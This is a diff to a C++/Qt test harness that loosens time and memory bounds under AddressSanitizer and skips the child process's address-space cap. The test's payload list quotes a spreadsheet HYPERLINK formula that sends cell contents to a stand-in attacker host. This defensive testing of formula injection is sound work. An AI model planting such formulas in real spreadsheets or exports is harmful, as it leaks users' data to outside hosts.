@@ -58,8 +58,17 @@ const QString kControl = QStringLiteral("hoshizora-card");
 // cap of 1,000 pages takes about 20 s on the 2-core machine (about 20 ms a
 // page, each committed with its cursor), the other attacks a second or two;
 // the margin is for a machine busy with other tests.
-constexpr int kBoundMs = 45000;
-constexpr qint64 kMemoryBound = 300LL << 20; // bytes
+// Under AddressSanitizer (./run test --sanitize) everything runs several
+// times slower and every allocation carries shadow memory and redzones: the
+// bounds grow with it, and the child's address space is not capped (ASan
+// reserves terabytes of address space for its shadow).
+#ifdef __SANITIZE_ADDRESS__
+constexpr int kSanitizerFactor = 4;
+#else
+constexpr int kSanitizerFactor = 1;
+#endif
+constexpr int kBoundMs = 45000 * kSanitizerFactor;
+constexpr qint64 kMemoryBound = (300LL << 20) * kSanitizerFactor; // bytes
 
 // The formula payloads the hostile issuer sends (hostile-issuer.mjs, FORMULAS).
 const QStringList kFormulas = {QStringLiteral("=HYPERLINK(\"http://attacker.invalid/?d=\"&A1,\"Click\")"),
@@ -129,9 +138,11 @@ int measureChild(const char* file, char** argv)
     if (pid == 0) {
         if (::prctl(PR_SET_PDEATHSIG, SIGKILL) != 0 || ::getppid() != parent)
             ::_exit(126);
-        const rlimit cap{rlim_t(2) << 30, rlim_t(2) << 30};
-        if (::setrlimit(RLIMIT_AS, &cap) != 0)
-            ::_exit(126);
+        if (kSanitizerFactor == 1) {
+            const rlimit cap{rlim_t(2) << 30, rlim_t(2) << 30};
+            if (::setrlimit(RLIMIT_AS, &cap) != 0)
+                ::_exit(126);
+        }
         ::execv(argv[0], argv);
         ::_exit(127);
     }
